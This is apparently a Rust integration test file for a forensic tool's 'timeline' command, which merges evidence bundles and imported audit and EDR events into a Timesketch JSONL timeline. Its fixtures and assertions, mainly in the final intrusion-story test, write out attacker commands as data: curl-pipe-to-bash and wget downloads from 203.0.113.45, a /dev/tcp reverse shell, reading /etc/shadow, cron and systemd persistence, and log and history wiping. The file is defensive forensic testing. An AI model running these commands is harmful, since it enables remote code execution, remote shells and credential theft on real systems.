//! `dossier timeline` (issue 17): bundles of the miner and clean fixtures and an import bundle
//! of events become one Timesketch JSONL timeline: every line has `message`, `datetime`,
//! `timestamp_desc` and `timestamp`, lines are sorted by time, the same bundles in another
//! order give the same bytes (to a file or to stdout), known facts are there with the member
//! they come from (the miner's `/var/log/log` modification time, btmp's failed logins, an
//! imported event at its own time), a damaged bundle is left out with exit status 1, and the
//! custody ledger records the timeline.

use dossier_bundle::reader::parse_manifest;
use dossier_bundle::writer::BundleWriter;
use dossier_plugin_api::collect::EvidenceSink;
use dossier_tests::*;
use serde_json::{Value, json};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

/// An import bundle in `dir` (host `esxi-web01`, like the miner) whose `records/events.jsonl`
/// holds two events and one with a time that is not RFC 3339.
fn import_bundle(dir: &Path, like: &Path) -> PathBuf {
    let mut m = parse_manifest(&member(like, "manifest.json")).unwrap();
    m.members.clear();
    m.collectors.clear();
    let mut w = BundleWriter::create(dir, "import").unwrap();
    w.begin_collector("events");
    let events = [
        json!({"time": "2025-11-05T00:50:01.25Z", "host": "esxi-web01",
               "source": {"format": "audit", "table": "SYSCALL"}, "action": "EXECVE",
               "process": {"pid": 4242, "exe": "/usr/bin/curl", "user": "alice",
                           "command_line": "curl -s http://192.0.2.99/x -o /var/log/log"},
               "peer": {"addr": "192.0.2.99", "port": 80},
               "origin": {"file": "imported/audit.log", "record": "lines 10-14 (serial 812)"}}),
        json!({"time": "2025-11-05T00:51:00Z", "host": "esxi-web01",
               "source": {"format": "journal", "table": "CRON"}, "action": "message",
               "script": "(root) CMD (/var/log/log)",
               "fields": {"_SYSTEMD_UNIT": "cron.service"},
               "origin": {"file": "imported/journal.json", "record": "line 3"}}),
        json!({"time": "yesterday", "host": "esxi-web01",
               "source": {"format": "journal"}, "action": "message",
               "origin": {"file": "imported/journal.json", "record": "line 4"}}),
    ];
    for e in events {
        w.record("events", e).unwrap();
    }
    w.end_collector("events").unwrap();
    w.finish(m, "esxi-web01-import").unwrap().path
}

/// An import bundle in `dir` of `n` events, their times out of order.
fn many_events_bundle(dir: &Path, like: &Path, n: u32) -> PathBuf {
    let mut m = parse_manifest(&member(like, "manifest.json")).unwrap();
    m.members.clear();
    m.collectors.clear();
    let mut w = BundleWriter::create(dir, "import").unwrap();
    w.begin_collector("events");
    for i in 0..n {
        let s = (i * 7919) % n;
        let e = json!({"time": format!("2025-11-05T{:02}:{:02}:{:02}.{:03}Z", s / 3600 % 24, s / 60 % 60, s % 60, i % 1000),
            "host": "esxi-web01", "source": {"format": "audit", "table": "SYSCALL"},
            "action": "EXECVE", "process": {"pid": i, "command_line": format!("/bin/true {i}")},
            "origin": {"file": "imported/audit.log", "record": format!("line {i}")}});
        w.record("events", e).unwrap();
    }
    w.end_collector("events").unwrap();
    w.finish(m, "esxi-web01-many").unwrap().path
}

/// Collects a fixture root into `dir/out`.
fn collected(dir: &Path, fixture_name: &str) -> PathBuf {
    let root = fixture(fixture_name);
    collect(
        dir,
        &dir.join("out"),
        &["--no-analyze", "--root", root.to_str().unwrap()],
    )
}

fn timeline(dir: &Path, bundles: &[&Path], out: &str) -> std::process::Output {
    let mut args = vec!["timeline", "--out", out];
    args.extend(bundles.iter().map(|b| b.to_str().unwrap()));
    dossier(dir, &args)
}

/// Each line parsed, after checking Timesketch's required fields and the order.
fn rows(text: &str) -> Vec<Value> {
    let rows: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    for r in &rows {
        for f in [
            "message",
            "datetime",
            "timestamp_desc",
            "host",
            "bundle",
            "bundle_sha256",
        ] {
            assert!(r[f].is_string(), "{f} missing: {r}");
        }
        let dt = chrono_like(r["datetime"].as_str().unwrap());
        assert_eq!(Some(dt), r["timestamp"].as_i64(), "{r}");
        assert!(r.get("member").is_some(), "{r}");
    }
    let times: Vec<i64> = rows
        .iter()
        .map(|r| r["timestamp"].as_i64().unwrap())
        .collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "not sorted by time");
    rows
}

/// Microseconds since the epoch of `2025-11-05T00:46:40.123456+00:00`.
fn chrono_like(s: &str) -> i64 {
    let t = dossier_plugin_api::Timestamp::parse(s).unwrap_or_else(|| panic!("not ISO 8601: {s}"));
    let d = t.datetime();
    d.timestamp() * 1_000_000 + i64::from(d.timestamp_subsec_micros())
}

#[test]
fn bundles_and_imported_events_make_one_sorted_deterministic_timesketch_timeline() {
    let d = tempfile::tempdir().unwrap();
    let miner = collected(d.path(), "rootfs-miner");
    let clean = collected(d.path(), "rootfs-clean");
    let imp_dir = d.path().join("imported");
    let imported = import_bundle(&imp_dir, &miner);

    let o = timeline(d.path(), &[&miner, &clean, &imported], "t1.jsonl");
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    assert!(
        stdout(&o).contains("(2 imported event(s))")
            && stdout(&o).contains("1 record line(s) not in the timeline")
            && stdout(&o).contains("\"yesterday\" is not RFC 3339"),
        "{}",
        stdout(&o)
    );
    let o = timeline(d.path(), &[&imported, &clean, &miner], "t2.jsonl");
    assert!(o.status.success(), "{}", stderr(&o));
    let t1 = std::fs::read(d.path().join("t1.jsonl")).unwrap();
    assert_eq!(t1, std::fs::read(d.path().join("t2.jsonl")).unwrap());
    let o = timeline(d.path(), &[&clean, &imported, &miner], "-");
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(o.stdout, t1, "stdout and file differ");
    let mode = std::fs::metadata(d.path().join("t1.jsonl")).unwrap().mode();
    assert_eq!(mode & 0o777, 0o600);

    let rows = rows(&String::from_utf8(t1).unwrap());
    assert_timesketch_importable(&rows);
    let hosts: std::collections::BTreeSet<&str> =
        rows.iter().map(|r| r["host"].as_str().unwrap()).collect();
    assert_eq!(hosts.len(), 2, "{hosts:?}");

    // The miner's /var/log/log: its modification time as the fixture file has it, from the
    // manifest's entry of its verbatim copy.
    let meta = std::fs::metadata(fixture("rootfs-miner").join("var/log/log")).unwrap();
    let mtime = meta.mtime() * 1_000_000 + meta.mtime_nsec() / 1000;
    let log = rows
        .iter()
        .find(|r| {
            r["path"] == "/var/log/log"
                && r["timestamp_desc"] == "Modification time"
                && r["host"] == "esxi-web01"
                && r["bundle"].as_str().unwrap().ends_with(".zip")
                && r["raw_member"] == "raw/var/log/log"
        })
        .expect("the miner's /var/log/log modification time");
    assert_eq!(log["timestamp"].as_i64(), Some(mtime), "{log}");
    assert_eq!(log["member"], "manifest.json");
    let sha = sha256_file(&miner);
    assert_eq!(log["bundle_sha256"], sha.as_str());

    // btmp: three failed logins of alice from 192.0.2.10, from the sessions records.
    let failed: Vec<&Value> = rows
        .iter()
        .filter(|r| r["timestamp_desc"] == "Failed login time" && r["host"] == "esxi-web01")
        .collect();
    assert_eq!(failed.len(), 3);
    assert!(failed.iter().all(|r| r["user"] == "alice"
        && r["remote_host"] == "192.0.2.10"
        && r["member"] == "records/sessions.jsonl"
        && r["record_line"].is_u64()));

    // The cron persistence of the miner, as an entry with its file's times.
    assert!(rows.iter().any(|r| {
        r["timestamp_desc"] == "Modification time"
            && r["message"]
                .as_str()
                .unwrap()
                .starts_with("cron entry /etc/cron.d/python:3")
    }));

    // ... and not again as a bare copy: the entry's rows say what the file is.
    assert!(!rows.iter().any(|r| r["path"] == "/etc/cron.d/python"
        && r["host"] == "esxi-web01"
        && r["member"] == "manifest.json"));

    // Imported events at their own time, traceable to their line.
    let ev: Vec<&Value> = rows
        .iter()
        .filter(|r| r["timestamp_desc"] == "Event time")
        .collect();
    assert_eq!(ev.len(), 2, "{ev:?}");
    assert_eq!(ev[0]["datetime"], "2025-11-05T00:50:01.250000+00:00");
    assert_eq!(ev[0]["process_pid"], 4242);
    assert_eq!(ev[0]["member"], "records/events.jsonl");
    assert_eq!(ev[0]["record_line"], 1);
    assert!(
        ev[0]["message"]
            .as_str()
            .unwrap()
            .starts_with("EXECVE: /usr/bin/curl (pid 4242) `curl -s")
    );
    assert_eq!(ev[1]["fields__SYSTEMD_UNIT"], "cron.service");

    // The custody ledger beside the collected bundles records the timeline.
    let ledger = std::fs::read_to_string(d.path().join("out/custody.jsonl")).unwrap();
    assert!(ledger.contains("\"action\":\"timelined\""), "{ledger}");
}

#[test]
fn a_damaged_bundle_is_left_out_with_status_1_and_the_others_are_written() {
    let d = tempfile::tempdir().unwrap();
    let miner = collected(d.path(), "rootfs-miner");
    let bad_dir = d.path().join("bad");
    std::fs::create_dir(&bad_dir).unwrap();
    let bad = bad_dir.join("copy.zip");
    let mut data = std::fs::read(&miner).unwrap();
    let n = data.len();
    data[n / 2] ^= 0x20;
    std::fs::write(&bad, data).unwrap();
    std::fs::copy(
        format!("{}.sha256", miner.display()),
        bad_dir.join("copy.zip.sha256"),
    )
    .unwrap();
    let o = timeline(d.path(), &[&bad, &miner], "t.jsonl");
    assert_eq!(o.status.code(), Some(1), "{}{}", stdout(&o), stderr(&o));
    assert!(stdout(&o).contains("NOT IN TIMELINE  "), "{}", stdout(&o));
    let text = std::fs::read_to_string(d.path().join("t.jsonl")).unwrap();
    let rows = rows(&text);
    assert!(!rows.is_empty());
    assert!(rows.iter().all(|r| r["bundle"] != "copy.zip"));
    // Only the damaged one: nothing written, status 1.
    let o = timeline(d.path(), &[&bad], "none.jsonl");
    assert_eq!(o.status.code(), Some(1));
    assert!(!d.path().join("none.jsonl").exists());
    // A directory as --out cannot run: status 2.
    let o = timeline(d.path(), &[&miner], d.path().to_str().unwrap());
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
}

#[test]
fn with_a_pubkey_only_bundles_whose_signature_verifies_are_in_the_timeline() {
    let d = tempfile::tempdir().unwrap();
    let (_, pk, signed) = crate::signing::signed_bundle(d.path());
    let other = d.path().join("other");
    std::fs::create_dir(&other).unwrap();
    let unsigned = collected(&other, "rootfs-miner");
    let pk = pk.to_str().unwrap();
    let o = dossier(
        d.path(),
        &[
            "timeline",
            "--out",
            "t.jsonl",
            "--pubkey",
            pk,
            signed.to_str().unwrap(),
            unsigned.to_str().unwrap(),
        ],
    );
    assert_eq!(o.status.code(), Some(1), "{}{}", stdout(&o), stderr(&o));
    assert!(
        stdout(&o).contains(&format!(
            "NOT IN TIMELINE  {}: signature:",
            unsigned.display()
        )),
        "{}",
        stdout(&o)
    );
    let rows = rows(&std::fs::read_to_string(d.path().join("t.jsonl")).unwrap());
    let bundles: std::collections::BTreeSet<&str> =
        rows.iter().map(|r| r["bundle"].as_str().unwrap()).collect();
    let name = signed.file_name().unwrap().to_str().unwrap();
    assert_eq!(bundles.into_iter().collect::<Vec<_>>(), vec![name]);
}

#[test]
fn rows_over_the_sort_memory_are_merged_from_runs_into_the_same_bytes() {
    let d = tempfile::tempdir().unwrap();
    let miner = collected(d.path(), "rootfs-miner");
    let many = many_events_bundle(&d.path().join("imp"), &miner, 20_000);
    let bundles = [miner.to_str().unwrap(), many.to_str().unwrap()];
    let run = |out: &str, mib: &str| {
        let mut args = vec!["timeline", "--out", out, "--sort-memory", mib];
        args.extend(bundles);
        let o = dossier(d.path(), &args);
        assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
        stdout(&o)
    };
    let said = run("small.jsonl", "1");
    assert!(said.contains(" runs on disk)"), "{said}");
    let said = run("large.jsonl", "256");
    assert!(!said.contains("runs on disk"), "{said}");
    let small = std::fs::read(d.path().join("small.jsonl")).unwrap();
    assert_eq!(small, std::fs::read(d.path().join("large.jsonl")).unwrap());
    let rows = rows(&String::from_utf8(small).unwrap());
    assert!(rows.len() > 20_000 && rows.len() < 21_000, "{}", rows.len());
    // Nothing left behind beside the output.
    let left: Vec<_> = std::fs::read_dir(d.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("partial"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn an_encrypted_bundle_is_read_with_its_identity_and_refused_without() {
    let d = tempfile::tempdir().unwrap();
    let Some(x) = crate::encrypt::sealed(d.path()) else {
        return;
    };
    let b = x.bundle.to_str().unwrap();
    let o = dossier(d.path(), &["timeline", "--out", "t.jsonl", b]);
    assert_eq!(o.status.code(), Some(1), "{}{}", stdout(&o), stderr(&o));
    assert!(
        stdout(&o).contains("encrypted bundle, and no --identity"),
        "{}",
        stdout(&o)
    );
    assert!(!d.path().join("t.jsonl").exists());
    let id = x.identity.to_str().unwrap();
    let o = dossier(
        d.path(),
        &["timeline", "--out", "t.jsonl", "--identity", id, b],
    );
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    let rows = rows(&std::fs::read_to_string(d.path().join("t.jsonl")).unwrap());
    let name = x.bundle.file_name().unwrap().to_str().unwrap();
    assert!(rows.len() > 50 && rows.iter().all(|r| r["bundle"] == name));
    assert!(
        rows.iter()
            .any(|r| r["timestamp_desc"] == "Failed login time")
    );
}

/// A file of the intrusion story (`tests/data/events-story`, described in its README).
fn story(name: &str) -> PathBuf {
    repo_root().join("tests/data/events-story").join(name)
}

/// `dossier import` of `files` into `dir`: the import bundle.
fn import(dir: &Path, files: &[&str]) -> PathBuf {
    let out = dir.to_str().unwrap();
    let paths: Vec<PathBuf> = files.iter().map(|f| story(f)).collect();
    let mut args = vec!["import", "--quiet", "--out", out];
    args.extend(paths.iter().map(|p| p.to_str().unwrap()));
    let o = dossier(dir.parent().unwrap(), &args);
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    PathBuf::from(stdout(&o).trim())
}

/// What Timesketch's JSONL import asks of every line (`read_and_validate_jsonl` in
/// `timesketch/lib/utils.py`, docs/guides/user/import-from-json-csv.md) and what its index
/// takes (`data/generic.mappings`, `OPENSEARCH_MAPPING_UPPER_LIMIT` in data/timesketch.conf):
/// `message`, `datetime` and `timestamp_desc` on every line; `datetime` ISO 8601 with its
/// offset; `timestamp` the microseconds of `datetime` (what Timesketch computes when it is
/// missing); no key it keeps or drops (`tag`, `timesketch_label`, `_id`, `_type`, `_index`,
/// `_source`, `__ts_timeline_id`; its importer client, `timesketch_importer`, drops every key
/// beginning with `_`); scalar values, each key of one JSON type on every line (the
/// index maps a key by the first value it sees and rejects a line whose value does not fit);
/// no dotted or empty key (a dot is an object path to OpenSearch); and few enough keys that
/// (keys × 2) × 1.1 stays under Timesketch's default mapping limit of 1,000.
fn assert_timesketch_importable(rows: &[Value]) {
    let mut types: std::collections::BTreeMap<&str, &'static str> = Default::default();
    for r in rows {
        let obj = r.as_object().expect("a JSON object a line");
        for f in ["message", "datetime", "timestamp_desc"] {
            assert!(
                obj.get(f)
                    .and_then(Value::as_str)
                    .is_some_and(|s| !s.is_empty()),
                "{f}: {r}"
            );
        }
        let dt = obj["datetime"].as_str().unwrap();
        // 2026-11-20T02:11:02.640000+00:00
        let b = dt.as_bytes();
        assert!(
            dt.len() == 32
                && b[4] == b'-'
                && b[7] == b'-'
                && b[10] == b'T'
                && b[13] == b':'
                && b[16] == b':'
                && b[19] == b'.'
                && dt.ends_with("+00:00"),
            "datetime {dt}"
        );
        assert_eq!(obj["timestamp"].as_i64(), Some(chrono_like(dt)), "{r}");
        for (k, v) in obj {
            // Timesketch's importer client drops keys beginning with `_`.
            assert!(
                !k.is_empty() && !k.contains('.') && !k.starts_with('_'),
                "key {k:?}"
            );
            assert!(
                ![
                    "tag",
                    "timesketch_label",
                    "_id",
                    "_type",
                    "_index",
                    "_source",
                    "__ts_timeline_id"
                ]
                .contains(&k.as_str()),
                "reserved key {k}: {r}"
            );
            let ty = match v {
                Value::String(_) => "string",
                Value::Number(n) if n.is_f64() => "float",
                Value::Number(_) => "integer",
                Value::Bool(_) => "bool",
                other => panic!("{k} is not a scalar: {other}"),
            };
            let first = *types.entry(k.as_str()).or_insert(ty);
            assert_eq!(
                first, ty,
                "{k} is a {first} on one line and a {ty} on another"
            );
        }
    }
    assert!(
        types.len() * 2 * 11 / 10 <= 1000,
        "{} keys: over Timesketch's mapping limit",
        types.len()
    );
}

/// Events in an import bundle's `records/events.jsonl`.
fn events_in(bundle: &Path) -> usize {
    let text = String::from_utf8(member(bundle, "records/events.jsonl")).unwrap();
    text.lines().count()
}

#[test]
fn the_intrusion_story_imported_is_one_sorted_deterministic_timesketch_timeline() {
    let d = tempfile::tempdir().unwrap();
    let web1 = import(
        &d.path().join("web1"),
        &["web1-audit.log", "web1-journal.json"],
    );
    let db1 = import(
        &d.path().join("db1"),
        &[
            "db1-mde-DeviceLogonEvents.csv",
            "db1-mde-DeviceProcessEvents.csv",
            "db1-mde-DeviceNetworkEvents.json",
            "db1-mde-DeviceFileEvents.csv",
            "db1-mde-DeviceEvents-ScriptContent.csv",
        ],
    );
    let miner = collected(d.path(), "rootfs-miner");
    let events = events_in(&web1) + events_in(&db1);
    assert!(events > 250, "{events}");

    let o = timeline(d.path(), &[&web1, &db1, &miner], "t1.jsonl");
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    let o = timeline(d.path(), &[&miner, &db1, &web1], "t2.jsonl");
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    let o = timeline(d.path(), &[&db1, &web1, &miner], "t3.jsonl");
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    let t1 = std::fs::read(d.path().join("t1.jsonl")).unwrap();
    assert_eq!(t1, std::fs::read(d.path().join("t2.jsonl")).unwrap());
    assert_eq!(t1, std::fs::read(d.path().join("t3.jsonl")).unwrap());

    // Timesketch reads the file a line at a time and fails the whole import on a line that is
    // not JSON (a blank one included): every line is one object, the last one ends too.
    let text = String::from_utf8(t1).unwrap();
    assert!(text.ends_with('\n') && !text.contains("\n\n"));
    let rows = rows(&text);
    assert_timesketch_importable(&rows);

    // Every imported event once, at its own time, traceable to its source record.
    let ev: Vec<&Value> = rows
        .iter()
        .filter(|r| r["timestamp_desc"] == "Event time")
        .collect();
    assert_eq!(ev.len(), events);
    for r in &ev {
        assert_eq!(r["member"], "records/events.jsonl", "{r}");
        assert!(r["record_line"].is_u64(), "{r}");
        assert!(
            r["origin_file"].as_str().unwrap().starts_with("raw/")
                && r["origin_record"].is_string(),
            "{r}"
        );
        assert!(
            r["datetime"].as_str().unwrap().starts_with("2026-11-20T"),
            "{r}"
        );
    }
    // Both hosts of the story under their own names (the collected miner's too).
    let hosts: std::collections::BTreeSet<&str> =
        ev.iter().map(|r| r["host"].as_str().unwrap()).collect();
    assert_eq!(
        hosts.into_iter().collect::<Vec<_>>(),
        ["db1.corp.example.com", "web1"]
    );
    assert!(rows.iter().any(|r| r["host"] == "esxi-web01"));

    // The story's steps, each at the time its source gives, in the story's order.
    let at = |host: &str, datetime: &str, what: &dyn Fn(&Value) -> bool| -> usize {
        rows.iter()
            .position(|r| r["host"] == host && r["datetime"] == datetime && what(r))
            .unwrap_or_else(|| panic!("no row on {host} at {datetime} as expected"))
    };
    let cmd = |r: &Value, c: &str| r["process_command_line"] == c;
    let download = at("web1", "2026-11-20T02:10:14.312000+00:00", &|r| {
        r["action"] == "execve"
            && cmd(r, "sh -c curl -fsSL http://203.0.113.45/x.sh | bash")
            && r["user"] == "www-data"
    });
    let shell = at("web1", "2026-11-20T02:11:02.640000+00:00", &|r| {
        r["action"] == "execve" && cmd(r, "bash -c bash -i >& /dev/tcp/203.0.113.45/4444 0>&1")
    });
    let callback = at("web1", "2026-11-20T02:11:02.644000+00:00", &|r| {
        r["action"] == "connect" && r["peer_addr"] == "203.0.113.45" && r["peer_port"] == 4444
    });
    let cron = at("web1", "2026-11-20T02:14:07.905000+00:00", &|r| {
        r["action"] == "openat" && r["file"] == "/etc/cron.d/syncd" && r["fields_key"] == "cron"
    });
    let cron_runs = at("web1", "2026-11-20T02:15:01.009403+00:00", &|r| {
        r["source_format"] == "journal"
            && r["message"]
                .as_str()
                .unwrap()
                .contains("(root) CMD (/tmp/.x/syncd >/dev/null 2>&1)")
    });
    let shadow = at("web1", "2026-11-20T02:20:05.018000+00:00", &|r| {
        cmd(r, "cat /etc/shadow")
    });
    let wipe = at("web1", "2026-11-20T02:20:40.663000+00:00", &|r| {
        r["file"] == "/var/log/auth.log" && r["fields_key"] == "logs"
    });
    let history = at("web1", "2026-11-20T02:20:52.209000+00:00", &|r| {
        r["action"] == "unlinkat" && r["file"] == "/root/.bash_history"
    });
    let db = "db1.corp.example.com";
    let failed: Vec<&&Value> = ev
        .iter()
        .filter(|r| r["action"] == "LogonFailed" && r["peer_addr"] == "198.51.100.7")
        .collect();
    assert_eq!(failed.len(), 33);
    let first_failed = rows
        .iter()
        .position(|r| std::ptr::eq(r, *failed[0]))
        .unwrap();
    // KQL's seven fractional digits, to the microsecond.
    let logon = at(db, "2026-11-20T02:35:41.512345+00:00", &|r| {
        r["action"] == "LogonSuccess" && r["user"] == "deploy" && r["peer_addr"] == "198.51.100.7"
    });
    let hash = "b904a02bfbae3d692f6f2bd4a64170aff4fd7b7e7b92fed5293af10f6218e794";
    let wget = at(db, "2026-11-20T02:36:58.201884+00:00", &|r| {
        cmd(r, "wget http://203.0.113.45/x.sh -O /tmp/.x/syncd")
    });
    let run = at(db, "2026-11-20T02:37:05.109335+00:00", &|r| {
        r["action"] == "ProcessCreated" && r["process_sha256"] == hash
    });
    let c2 = at(db, "2026-11-20T02:37:05.810221+00:00", &|r| {
        r["action"] == "ConnectionSuccess"
            && r["peer_addr"] == "203.0.113.45"
            && r["peer_port"] == 4444
            && r["process_sha256"] == hash
    });
    let unit = at(db, "2026-11-20T02:38:47.602334+00:00", &|r| {
        r["action"] == "FileCreated" && r["file"] == "/etc/systemd/system/syncd.service"
    });
    let keys = at(db, "2026-11-20T02:40:13.220883+00:00", &|r| {
        r["action"] == "FileModified" && r["file"] == "/home/deploy/.ssh/authorized_keys"
    });
    let order = [
        download,
        shell,
        callback,
        cron,
        cron_runs,
        shadow,
        wipe,
        history,
        first_failed,
        logon,
        wget,
        run,
        c2,
        unit,
        keys,
    ];
    assert!(order.windows(2).all(|w| w[0] < w[1]), "{order:?}");
    // An event's row names the import bundle's host apart from its own.
    assert!(ev.iter().all(|r| r["bundle_host"].is_string()));
    assert!(rows[shell]["message"].as_str().unwrap().starts_with(
        "execve: bash (pid 24110) `bash -c bash -i >& /dev/tcp/203.0.113.45/4444 0>&1`"
    ));
}
